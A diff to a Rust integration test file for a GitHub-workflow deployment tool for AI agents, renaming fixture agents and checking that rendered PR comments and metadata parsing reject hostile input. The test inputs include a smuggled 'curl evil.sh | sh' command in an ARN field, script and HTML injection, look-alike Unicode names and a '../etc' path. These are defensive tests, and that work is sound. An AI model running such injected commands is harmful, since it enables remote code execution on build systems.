@@ -1,5 +1,6 @@
 //! Integration tests of `cargo xtask github`: the workflow files, the metadata parser, the rendered
-//! markdown, and the steps driven by recorded-style event payloads from tests/events/.
+//! markdown, and the steps driven by recorded-style event payloads from tests/events/, on the two
+//! agents of the release fixture (`tests/fixtures/release`).
 
 mod story;
 mod workflows;
@@ -8,24 +9,23 @@ use std::path::{Path, PathBuf};
 
 use xtask::agents::{self, Agent};
 use xtask::aws::AwsArgs;
-use xtask::cli::Ctx;
 use xtask::deploy::DeployOutcome;
 use xtask::github::event::{self, IssuesEvent};
 use xtask::github::metadata::{self, AgentVersion, FORMAT, Metadata};
 use xtask::github::{self as gh, EventArgs, render};
-use xtask::settings::{Settings, workspace_root};
+
+use crate::support::{Ctx, copy_workspace, release_fixture, repo_root, snapshot_settings, xtask_command};
 
 const COMMIT: &str = "3c4d5e6f7a8b9c0d1e2f3a4b5c6d7e8f9a0b1c2d";
 
 pub fn events_dir() -> PathBuf {
-    workspace_root().join("tests").join("events")
+    repo_root().join("tests").join("events")
 }
 
+/// A context on the release fixture's two agents, with the bundled stack (state in `local_dir`).
 pub fn ctx(local_dir: Option<&Path>) -> Ctx {
-    let root = workspace_root();
-    let settings = Settings::from_workspace(&root).unwrap();
     let aws = AwsArgs { local: true, local_dir: local_dir.map(Path::to_path_buf), ..Default::default() };
-    Ctx { root, settings, aws, json: false }
+    crate::support::ctx(&release_fixture(), aws)
 }
 
 fn workspace_agents() -> Vec<Agent> {
@@ -38,9 +38,7 @@ fn scheme() -> xtask::naming::Scheme {
 }
 
 fn snapshot(name: &str, markdown: &str) {
-    insta::with_settings!({ snapshot_path => "github/snapshots", prepend_module_to_snapshot => false }, {
-        insta::assert_snapshot!(name, markdown);
-    });
+    snapshot_settings().bind(|| insta::assert_snapshot!(name, markdown));
 }
 
 fn outcome(agent: &str, runtime: &str, version: &str, action: &str) -> DeployOutcome {
@@ -67,10 +65,10 @@ fn valid_metadata() -> Metadata {
         pr: Some(12),
         commit: COMMIT.into(),
         agents: vec![
-            AgentVersion { agent: "dad_joke_bot".into(), runtime: "dad_joke_bot_prod".into(), version: "2".into() },
+            AgentVersion { agent: "echo_bot".into(), runtime: "echo_bot_prod".into(), version: "2".into() },
             AgentVersion {
-                agent: "motivational_quotes_bot".into(),
-                runtime: "motivational_quotes_bot_prod".into(),
+                agent: "weather_report_bot".into(),
+                runtime: "weather_report_bot_prod".into(),
                 version: "7".into(),
             },
         ],
@@ -80,8 +78,8 @@ fn valid_metadata() -> Metadata {
 fn valid_body() -> String {
     let metadata = valid_metadata();
     let outcomes = [
-        outcome("dad_joke_bot", "dad_joke_bot_prod", "2", "updated"),
-        outcome("motivational_quotes_bot", "motivational_quotes_bot_prod", "7", "updated"),
+        outcome("echo_bot", "echo_bot_prod", "2", "updated"),
+        outcome("weather_report_bot", "weather_report_bot_prod", "7", "updated"),
     ];
     render::issue_body(&metadata, &outcomes, "prod")
 }
@@ -103,13 +101,13 @@ fn agent_result(agent: &str, outcome: Result<render::Deployed, String>) -> rende
 #[test]
 fn pr_comment_snapshot() {
     let results = [
-        agent_result("dad_joke_bot", Ok(deployed("dad_joke_bot_pr_12", "3", "updated"))),
-        agent_result("motivational_quotes_bot", Err("upload failed: <img src=x> @everyone\n~~~\n```".into())),
+        agent_result("echo_bot", Ok(deployed("echo_bot_pr_12", "3", "updated"))),
+        agent_result("weather_report_bot", Err("upload failed: <img src=x> @everyone\n~~~\n```".into())),
     ];
     let markdown = render::pr_comment(12, COMMIT, "us-east-1", &results);
     assert!(markdown.starts_with(render::PR_COMMENT_MARKER));
     // Free text stays inside one fence it cannot close: the fence is longer than any backtick run.
-    let error_part = &markdown[markdown.find("### `motivational_quotes_bot` failed").unwrap()..];
+    let error_part = &markdown[markdown.find("### `weather_report_bot` failed").unwrap()..];
     assert!(error_part.contains("\n````text\n") && error_part.matches("\n````\n").count() == 1, "{error_part}");
     snapshot("pr_comment", &markdown);
 }
@@ -118,18 +116,18 @@ fn pr_comment_snapshot() {
 /// quotes or the code block, or an unknown action, is not printed.
 #[test]
 fn pr_comment_prints_only_well_formed_values() {
-    let mut hostile = deployed("dad_joke_bot_pr_12", "3", "updated");
+    let mut hostile = deployed("echo_bot_pr_12", "3", "updated");
     hostile.runtime_arn = Some("arn:x' ; curl evil.sh | sh ; echo '\n```".into());
     hostile.action = "<b>pwned</b>".into();
     hostile.status = "READY`<script>".into();
-    let markdown = render::pr_comment(12, COMMIT, "us-east-1", &[agent_result("dad_joke_bot", Ok(hostile))]);
+    let markdown = render::pr_comment(12, COMMIT, "us-east-1", &[agent_result("echo_bot", Ok(hostile))]);
     assert!(!markdown.contains("curl") && !markdown.contains("pwned"), "{markdown}");
     assert!(markdown.contains("--agent-runtime-arn '<runtime ARN>'"), "{markdown}");
     assert!(markdown.contains("| `READY<script>` | - |"), "{markdown}");
     // A pipe or a line break cannot end the cell or the row.
-    let mut hostile = deployed("dad_joke_bot_pr_12", "3", "updated");
+    let mut hostile = deployed("echo_bot_pr_12", "3", "updated");
     hostile.status = "READY | [x](https://evil)\n| row |".into();
-    let markdown = render::pr_comment(12, COMMIT, "us-east-1", &[agent_result("dad_joke_bot", Ok(hostile))]);
+    let markdown = render::pr_comment(12, COMMIT, "us-east-1", &[agent_result("echo_bot", Ok(hostile))]);
     assert!(markdown.contains("| `READY  [x](https://evil) row ` | updated |"), "{markdown}");
 }
 
@@ -145,7 +143,7 @@ fn deployment_issue_snapshot() {
     // What the bot writes reads back through the strict parser.
     let verified = parse(&body).unwrap();
     assert_eq!(verified.pr, Some(12));
-    assert_eq!(verified.agents[1].pr_runtime.as_deref(), Some("motivational_quotes_bot_pr_12"));
+    assert_eq!(verified.agents[1].pr_runtime.as_deref(), Some("weather_report_bot_pr_12"));
     snapshot("deployment_issue_title", &render::issue_title(Some(12), &valid_metadata().agents));
     snapshot("deployment_issue", &body);
 }
@@ -154,21 +152,21 @@ fn deployment_issue_snapshot() {
 fn promotion_and_refusal_snapshots() {
     let verified = parse(&valid_body()).unwrap();
     let outcomes = vec![xtask::promote::PromoteOutcome {
-        agent: "dad_joke_bot".into(),
-        runtime_name: "dad_joke_bot_prod".into(),
+        agent: "echo_bot".into(),
+        runtime_name: "echo_bot_prod".into(),
         endpoint: "prod".into(),
         previous_version: Some("1".into()),
         live_version: "2".into(),
         action: "promoted".into(),
-        runtime_id: "dad_joke_bot_prod-AbCdE12345".into(),
+        runtime_id: "echo_bot_prod-AbCdE12345".into(),
         endpoint_arn: None,
         record_key: None,
         plan: None,
     }];
-    let deleted = vec!["dad_joke_bot_pr_12".to_owned()];
+    let deleted = vec!["echo_bot_pr_12".to_owned()];
     snapshot("promotion_summary", &render::promotion_summary(&verified, &outcomes, &deleted));
-    snapshot("refusal", &render::refusal("the metadata block lists agent `dad_joke_bot` twice", true));
-    snapshot("rollback_refusal", &render::refusal("runtime `dad_joke_bot_prod` has no version 9", false));
+    snapshot("refusal", &render::refusal("the metadata block lists agent `echo_bot` twice", true));
+    snapshot("rollback_refusal", &render::refusal("runtime `echo_bot_prod` has no version 9", false));
 }
 
 // ---------------------------------------------------------------- the metadata parser
@@ -209,33 +207,33 @@ fn metadata_corpus_is_refused() {
         ("version 02", tampered_version("02"), "not a number from 1 to 99999"),
         ("version +2", tampered_version("+2"), "not a number from 1 to 99999"),
         ("version as a number", good.replace(r#""version":"2""#, r#""version":2"#), "invalid type"),
-        ("unknown agent", good.replace(r#""agent":"dad_joke_bot""#, r#""agent":"evil_bot""#), "not in agents/"),
+        ("unknown agent", good.replace(r#""agent":"echo_bot""#, r#""agent":"evil_bot""#), "not in agents/"),
         (
-            "look-alike agent (Cyrillic a)",
-            good.replace(r#""agent":"dad_joke_bot""#, "\"agent\":\"d\u{0430}d_joke_bot\""),
-            "U+0430",
+            "look-alike agent (Cyrillic e)",
+            good.replace(r#""agent":"echo_bot""#, "\"agent\":\"\u{0435}cho_bot\""),
+            "U+0435",
         ),
         (
             "escaped look-alike agent",
-            good.replace(r#""agent":"dad_joke_bot""#, r#""agent":"d\u0430d_joke_bot""#),
+            good.replace(r#""agent":"echo_bot""#, r#""agent":"\u0435cho_bot""#),
             "not in agents/",
         ),
         ("fullwidth digit", tampered_version("\u{ff12}"), "U+FF12"),
         (
             "runtime of another agent",
-            good.replace(r#""runtime":"dad_joke_bot_prod""#, r#""runtime":"motivational_quotes_bot_prod""#),
-            "but its prod runtime is `dad_joke_bot_prod`",
+            good.replace(r#""runtime":"echo_bot_prod""#, r#""runtime":"weather_report_bot_prod""#),
+            "but its prod runtime is `echo_bot_prod`",
         ),
         (
             "PR runtime as the prod runtime",
-            good.replace(r#""runtime":"dad_joke_bot_prod""#, r#""runtime":"dad_joke_bot_pr_12""#),
+            good.replace(r#""runtime":"echo_bot_prod""#, r#""runtime":"echo_bot_pr_12""#),
             "but its prod runtime is",
         ),
         (
             "duplicate agent",
             good.replace(
-                r#""agent":"motivational_quotes_bot","runtime":"motivational_quotes_bot_prod""#,
-                r#""agent":"dad_joke_bot","runtime":"dad_joke_bot_prod""#,
+                r#""agent":"weather_report_bot","runtime":"weather_report_bot_prod""#,
+                r#""agent":"echo_bot","runtime":"echo_bot_prod""#,
             ),
             "twice",
         ),
@@ -460,14 +458,13 @@ fn refused_promotion_through_the_binary() {
     std::fs::write(&event, payload.to_string()).unwrap();
     let output_file = dir.path().join("github_output");
     let out = dir.path().join("promotion.md");
-    let result = std::process::Command::new(env!("CARGO_BIN_EXE_xtask"))
+    let result = xtask_command(&release_fixture())
         .args(["github", "promote", "--labeller-permission", "write", "--out"])
         .arg(&out)
         .env("GITHUB_EVENT_PATH", &event)
         .env("GITHUB_OUTPUT", &output_file)
         // An endpoint nobody listens on: any AWS call would fail differently.
         .env("AWS_ENDPOINT_URL", "http://127.0.0.1:9")
-        .env("AGENTCORE_WORKSPACE", workspace_root())
         .output()
         .unwrap();
     let stderr = String::from_utf8_lossy(&result.stderr);
@@ -482,28 +479,30 @@ fn refused_promotion_through_the_binary() {
 #[test]
 fn fork_comment_snapshot() {
     let report: xtask::package::PackageReport = serde_json::from_value(serde_json::json!({
-        "agent": "dad_joke_bot", "path": "target/agentcore/packages/dad_joke_bot.zip", "files": 4157,
+        "agent": "echo_bot", "path": "target/agentcore/packages/echo_bot.zip", "files": 4157,
         "unzipped_bytes": 90000000, "zipped_bytes": 30965232,
         "sha256": "490a7c8306d3bee83d525e7fc6d2573a999bfe18d4f786e951dcbf343d84f067", "warnings": [],
         "platform": "aarch64-manylinux2014", "dependencies": "cached", "unchanged": false
     }))
     .unwrap();
-    let packages = [Ok(report), Err(("motivational_quotes_bot".to_owned(), "uv failed: <b>no</b>".to_owned()))];
+    let packages = [Ok(report), Err(("weather_report_bot".to_owned(), "uv failed: <b>no</b>".to_owned()))];
     let markdown = render::fork_comment(13, COMMIT, &packages);
     assert!(markdown.starts_with(render::PR_COMMENT_MARKER));
     snapshot("fork_comment", &markdown);
 }
 
 /// A fork's pull request is packaged for real and never deployed: no AWS is reachable here, so a
-/// deploy attempt would fail the step.
+/// deploy attempt would fail the step. Packaging writes into the workspace: a copy of the fixture.
 #[test]
 fn fork_pull_request_is_packaged_not_deployed() {
     let dir = tempfile::tempdir().unwrap();
     let changed = dir.path().join("changed.txt");
-    std::fs::write(&changed, "prompts/dad_joke_bot.txt\n").unwrap();
+    std::fs::write(&changed, "prompts/echo_bot.txt\n").unwrap();
     let out = dir.path().join("comment.md");
-    let mut ctx = ctx(None);
-    ctx.aws = AwsArgs { endpoint_url: Some("http://127.0.0.1:9".into()), ..Default::default() };
+    let workspace = dir.path().join("workspace");
+    copy_workspace(&release_fixture(), &workspace);
+    let aws = AwsArgs { endpoint_url: Some("http://127.0.0.1:9".into()), ..Default::default() };
+    let ctx = crate::support::ctx(&workspace, aws);
     let args = gh::PrDeployArgs {
         event: event_args("pr_fork_opened.json", Some(out.clone())),
         changed_files: Some(changed),
@@ -513,9 +512,9 @@ fn fork_pull_request_is_packaged_not_deployed() {
         package_dir: None,
     };
     let report = xtask::cli::block_on(gh::pr_deploy(&ctx, &args, None)).unwrap();
-    assert_eq!((report.result.as_str(), report.agents.as_slice()), ("packaged", &["dad_joke_bot".to_owned()][..]));
+    assert_eq!((report.result.as_str(), report.agents.as_slice()), ("packaged", &["echo_bot".to_owned()][..]));
     let comment = std::fs::read_to_string(out).unwrap();
-    assert!(comment.contains("packaged but not deployed") && comment.contains("| `dad_joke_bot` |"), "{comment}");
+    assert!(comment.contains("packaged but not deployed") && comment.contains("| `echo_bot` |"), "{comment}");
     // The fork's title and branch name (hostile on purpose in the fixture) stay out of the comment.
     assert!(!comment.contains("rm -rf") && !comment.contains("pwned") && !comment.contains("@acme"), "{comment}");
 }
@@ -556,7 +555,7 @@ fn open_issues_name_the_versions_they_ask_for() {
     .unwrap();
     assert_eq!(
         gh::requested_versions(&issues, gh::DEFAULT_BOT_LOGIN),
-        [("dad_joke_bot".to_owned(), 2), ("motivational_quotes_bot".to_owned(), 7)]
+        [("echo_bot".to_owned(), 2), ("weather_report_bot".to_owned(), 7)]
     );
 }
 
@@ -568,10 +567,10 @@ fn rollbacks_that_are_refused() {
     ctx.aws = AwsArgs { endpoint_url: Some("http://127.0.0.1:9".into()), ..Default::default() };
     let dir = tempfile::tempdir().unwrap();
     for (inputs, permission, expected) in [
-        (serde_json::json!({"agent": "dad_joke_bot", "version": "0"}), "admin", "not a number from 1 to 99999"),
-        (serde_json::json!({"agent": "dad_joke_bot", "version": "1e3"}), "admin", "not a number from 1 to 99999"),
+        (serde_json::json!({"agent": "echo_bot", "version": "0"}), "admin", "not a number from 1 to 99999"),
+        (serde_json::json!({"agent": "echo_bot", "version": "1e3"}), "admin", "not a number from 1 to 99999"),
         (serde_json::json!({"agent": "evil_bot", "version": "1"}), "admin", "evil_bot"),
-        (serde_json::json!({"agent": "dad_joke_bot", "version": "1"}), "read", "needs write or admin"),
+        (serde_json::json!({"agent": "echo_bot", "version": "1"}), "read", "needs write or admin"),
     ] {
         let mut payload: serde_json::Value = serde_json::from_str(
             &std::fs::read_to_string(events_dir().join("workflow_dispatch_rollback.json")).unwrap(),
@@ -613,10 +612,10 @@ fn pr_comment_args(dir: &Path, agents: &str) -> gh::PrCommentArgs {
 fn pr_plan_lists_the_matrix() {
     let dir = tempfile::tempdir().unwrap();
     let changed = dir.path().join("changed.txt");
-    std::fs::write(&changed, "prompts/dad_joke_bot.txt\nREADME.md\n").unwrap();
+    std::fs::write(&changed, "prompts/echo_bot.txt\nREADME.md\n").unwrap();
     let args = gh::PrPlanArgs { event: event_args("pr_opened.json", None), changed_files: Some(changed.clone()) };
     let report = gh::pr_plan(&ctx(None), &args).unwrap();
-    assert_eq!((report.result.as_str(), report.agents.as_slice()), ("planned", &["dad_joke_bot".to_owned()][..]));
+    assert_eq!((report.result.as_str(), report.agents.as_slice()), ("planned", &["echo_bot".to_owned()][..]));
     std::fs::write(&changed, "docs/x.md\n").unwrap();
     assert_eq!(gh::pr_plan(&ctx(None), &args).unwrap().result, "nothing");
     let args = gh::PrPlanArgs { event: event_args("pr_closed_unmerged.json", None), changed_files: Some(changed) };
@@ -629,10 +628,10 @@ fn pr_plan_lists_the_matrix() {
 fn pr_comment_gathers_the_matrix_results() {
     let dir = tempfile::tempdir().unwrap();
     std::fs::create_dir(dir.path().join("results")).unwrap();
-    let ok = matrix_result("dad_joke_bot", 12, PR_HEAD, Ok(deployed("dad_joke_bot_pr_12", "3", "updated")));
-    std::fs::write(dir.path().join("results/dad_joke_bot.json"), ok).unwrap();
+    let ok = matrix_result("echo_bot", 12, PR_HEAD, Ok(deployed("echo_bot_pr_12", "3", "updated")));
+    std::fs::write(dir.path().join("results/echo_bot.json"), ok).unwrap();
     std::fs::write(dir.path().join("results/notes.txt"), "not a result").unwrap();
-    let args = pr_comment_args(dir.path(), r#"["dad_joke_bot","motivational_quotes_bot"]"#);
+    let args = pr_comment_args(dir.path(), r#"["echo_bot","weather_report_bot"]"#);
     let report = gh::pr_comment(&ctx(None), &args).unwrap();
     assert_eq!(report.result, "failed");
     let comment = std::fs::read_to_string(dir.path().join("comment.md")).unwrap();
@@ -643,7 +642,7 @@ fn pr_comment_gathers_the_matrix_results() {
 
     // No results folder at all (every job died before uploading): every agent is reported.
     let empty = tempfile::tempdir().unwrap();
-    let report = gh::pr_comment(&ctx(None), &pr_comment_args(empty.path(), r#"["dad_joke_bot"]"#)).unwrap();
+    let report = gh::pr_comment(&ctx(None), &pr_comment_args(empty.path(), r#"["echo_bot"]"#)).unwrap();
     assert!(report.markdown.unwrap().contains("deployed 0 of 1 affected agents"));
     // An empty plan: the comment says nothing changed.
     let report = gh::pr_comment(&ctx(None), &pr_comment_args(empty.path(), "[]")).unwrap();
@@ -652,87 +651,81 @@ fn pr_comment_gathers_the_matrix_results() {
 
 #[test]
 fn pr_comment_refuses_results_that_do_not_belong() {
-    let good = || Ok(deployed("dad_joke_bot_pr_12", "3", "updated"));
+    let good = || Ok(deployed("echo_bot_pr_12", "3", "updated"));
     type Files = Vec<(&'static str, String)>;
     let cases: Vec<(&str, Files, &str, &str)> = vec![
         (
             "an agent the plan did not list",
-            vec![("m.json", matrix_result("motivational_quotes_bot", 12, PR_HEAD, good()))],
-            r#"["dad_joke_bot"]"#,
+            vec![("m.json", matrix_result("weather_report_bot", 12, PR_HEAD, good()))],
+            r#"["echo_bot"]"#,
             "which the plan did not list",
         ),
         (
             "another pull request",
-            vec![("d.json", matrix_result("dad_joke_bot", 13, PR_HEAD, good()))],
-            r#"["dad_joke_bot"]"#,
+            vec![("d.json", matrix_result("echo_bot", 13, PR_HEAD, good()))],
+            r#"["echo_bot"]"#,
             "not of PR #12",
         ),
         (
             "another commit",
-            vec![("d.json", matrix_result("dad_joke_bot", 12, COMMIT, good()))],
-            r#"["dad_joke_bot"]"#,
+            vec![("d.json", matrix_result("echo_bot", 12, COMMIT, good()))],
+            r#"["echo_bot"]"#,
             "not of PR #12",
         ),
         (
             "two results for one agent",
             vec![
-                ("a.json", matrix_result("dad_joke_bot", 12, PR_HEAD, good())),
-                ("b.json", matrix_result("dad_joke_bot", 12, PR_HEAD, Err("x".into()))),
+                ("a.json", matrix_result("echo_bot", 12, PR_HEAD, good())),
+                ("b.json", matrix_result("echo_bot", 12, PR_HEAD, Err("x".into()))),
             ],
-            r#"["dad_joke_bot"]"#,
+            r#"["echo_bot"]"#,
             "second result",
         ),
-        ("not JSON", vec![("d.json", "{".into())], r#"["dad_joke_bot"]"#, "not a result file"),
+        ("not JSON", vec![("d.json", "{".into())], r#"["echo_bot"]"#, "not a result file"),
         (
             "another runtime",
-            vec![(
-                "d.json",
-                matrix_result("dad_joke_bot", 12, PR_HEAD, Ok(deployed("dad_joke_bot_prod", "3", "updated"))),
-            )],
-            r#"["dad_joke_bot"]"#,
-            "deploys to `dad_joke_bot_pr_12`, not `dad_joke_bot_prod`",
+            vec![("d.json", matrix_result("echo_bot", 12, PR_HEAD, Ok(deployed("echo_bot_prod", "3", "updated"))))],
+            r#"["echo_bot"]"#,
+            "deploys to `echo_bot_pr_12`, not `echo_bot_prod`",
         ),
         (
             "a table-breaking status",
             vec![("d.json", {
-                let mut hostile = deployed("dad_joke_bot_pr_12", "3", "updated");
+                let mut hostile = deployed("echo_bot_pr_12", "3", "updated");
                 hostile.status = "READY | [x](https://evil)".into();
-                matrix_result("dad_joke_bot", 12, PR_HEAD, Ok(hostile))
+                matrix_result("echo_bot", 12, PR_HEAD, Ok(hostile))
             })],
-            r#"["dad_joke_bot"]"#,
+            r#"["echo_bot"]"#,
             "not an AgentCore status",
         ),
         (
             "a version that is not one",
-            vec![(
-                "d.json",
-                matrix_result("dad_joke_bot", 12, PR_HEAD, Ok(deployed("dad_joke_bot_pr_12", "v3", "updated"))),
-            )],
-            r#"["dad_joke_bot"]"#,
+            vec![("d.json", matrix_result("echo_bot", 12, PR_HEAD, Ok(deployed("echo_bot_pr_12", "v3", "updated"))))],
+            r#"["echo_bot"]"#,
             "version `v3`",
         ),
         (
             "an S3 key elsewhere",
             vec![("d.json", {
-                let mut hostile = deployed("dad_joke_bot_pr_12", "3", "updated");
-                hostile.s3_key = Some("dad_joke_bot_prod/v1/code.zip".into());
-                matrix_result("dad_joke_bot", 12, PR_HEAD, Ok(hostile))
+                let mut hostile = deployed("echo_bot_pr_12", "3", "updated");
+                hostile.s3_key = Some("echo_bot_prod/v1/code.zip".into());
+                matrix_result("echo_bot", 12, PR_HEAD, Ok(hostile))
             })],
-            r#"["dad_joke_bot"]"#,
-            "not under `dad_joke_bot_pr_12/`",
+            r#"["echo_bot"]"#,
+            "not under `echo_bot_pr_12/`",
         ),
         (
             "an unknown field",
             vec![(
                 "d.json",
-                matrix_result("dad_joke_bot", 12, PR_HEAD, good()).replace(r#""pr":12"#, r#""pr":12,"html":"<b>""#),
+                matrix_result("echo_bot", 12, PR_HEAD, good()).replace(r#""pr":12"#, r#""pr":12,"html":"<b>""#),
             )],
-            r#"["dad_joke_bot"]"#,
+            r#"["echo_bot"]"#,
             "not a result file",
         ),
-        ("oversized", vec![("d.json", " ".repeat(1024 * 1024 + 1))], r#"["dad_joke_bot"]"#, "bytes"),
-        ("agents not JSON", vec![], "dad_joke_bot", "JSON array of agent names"),
-        ("an unknown agent", vec![], r#"["dad_joke_bot","../etc"]"#, "no agent named `../etc`"),
+        ("oversized", vec![("d.json", " ".repeat(1024 * 1024 + 1))], r#"["echo_bot"]"#, "bytes"),
+        ("agents not JSON", vec![], "echo_bot", "JSON array of agent names"),
+        ("an unknown agent", vec![], r#"["echo_bot","../etc"]"#, "no agent named `../etc`"),
     ];
     for (name, files, agents, expected) in cases {
         let dir = tempfile::tempdir().unwrap();
@@ -760,7 +753,7 @@ fn a_fork_is_never_deployed_one_agent_at_a_time() {
     let args = gh::PrDeployArgs {
         event: event_args("pr_fork_opened.json", None),
         changed_files: None,
-        agent: Some("dad_joke_bot".into()),
+        agent: Some("echo_bot".into()),
         result: Some(dir.path().join("result.json")),
         force: false,
         package_dir: None,
@@ -776,20 +769,20 @@ fn a_failed_matrix_job_still_writes_its_result() {
     let dir = tempfile::tempdir().unwrap();
     // The bundled stack, started and stopped by the step itself.
     let ctx = ctx(Some(&dir.path().join("state")));
-    let result = dir.path().join("dad_joke_bot.json");
+    let result = dir.path().join("echo_bot.json");
     let args = gh::PrDeployArgs {
         event: event_args("pr_opened.json", None),
         changed_files: None,
-        agent: Some("dad_joke_bot".into()),
+        agent: Some("echo_bot".into()),
         result: Some(result.clone()),
         force: false,
         // An empty folder: the zip is missing, so the deploy fails before it changes anything.
         package_dir: Some(dir.path().join("zips")),
     };
     let err = format!("{:#}", xtask::cli::block_on(gh::pr_deploy(&ctx, &args, None)).unwrap_err());
-    assert!(err.contains("deploy failed for dad_joke_bot"), "{err}");
+    assert!(err.contains("deploy failed for echo_bot"), "{err}");
     let written: Vec<render::AgentResult> = serde_json::from_str(&std::fs::read_to_string(&result).unwrap()).unwrap();
-    assert_eq!((written.len(), written[0].agent.as_str(), written[0].pr), (1, "dad_joke_bot", 12));
+    assert_eq!((written.len(), written[0].agent.as_str(), written[0].pr), (1, "echo_bot", 12));
     let reason = written[0].outcome.as_ref().unwrap_err();
     assert!(reason.contains("cannot read the zip"), "{reason}");
     // An agent that does not exist is refused before anything is written.
